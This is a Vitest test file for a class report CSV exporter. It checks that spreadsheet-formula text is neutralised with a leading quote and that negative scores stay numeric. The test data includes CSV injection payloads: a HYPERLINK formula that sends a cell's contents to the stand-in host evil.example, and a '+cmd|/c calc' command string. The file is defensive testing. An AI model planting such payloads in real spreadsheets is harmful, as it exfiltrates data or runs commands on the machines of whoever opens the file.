import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { csv } from '../../../../main/core/class/report.js';

describe('class report CSV', () => {
  it('writes a student or file name that would start a formula as plain text', () => {
    const text = csv([
      ['student', 'score'],
      ['=HYPERLINK("http://evil.example/?x="&A1,"Ana")', 7],
      ['+cmd|/c calc', 3],
      ['-2+3', 1],
      ['@SUM(A1:A2)', 0],
      ['\tTab', 0],
      ['Ana Souza', -1],
    ]);
    const lines = text.replace('\uFEFF', '').trimEnd().split('\r\n');
    expect(lines.slice(1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")",7`,
      "'+cmd|/c calc,3",
      "'-2+3,1",
      "'@SUM(A1:A2),0",
      "'\tTab,0",
      // A number (a negative score) stays a number; a plain name is untouched.
      'Ana Souza,-1',
    ]);
  });

  it('writes every numeric column as numbers a spreadsheet computes with, negative ones included', () => {
    const text = csv([
      ['number', 'point_biserial', 'upper_lower', 'percent', 'student'],
      [1, '-1.000', '-0.882', '66.7', '-Ana'],
      [2, '0.412', '0.000', '100.0', 'Bia'],
      [3, '', '-0.5', '0', '- 3'],
    ]);
    // As a spreadsheet reads it: papaparse with dynamic typing.
    const parsed = Papa.parse<Record<string, unknown>>(text.replace('\uFEFF', ''), {
      header: true,
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    expect(parsed.data.map((row) => row.point_biserial)).toEqual([-1, 0.412, null]);
    expect(parsed.data.map((row) => row.upper_lower)).toEqual([-0.882, 0, -0.5]);
    expect(parsed.data.map((row) => row.percent)).toEqual([66.7, 100, 0]);
    // Text that starts like a formula is still neutralised.
    expect(parsed.data.map((row) => row.student)).toEqual(["'-Ana", 'Bia', "'- 3"]);
  });
});
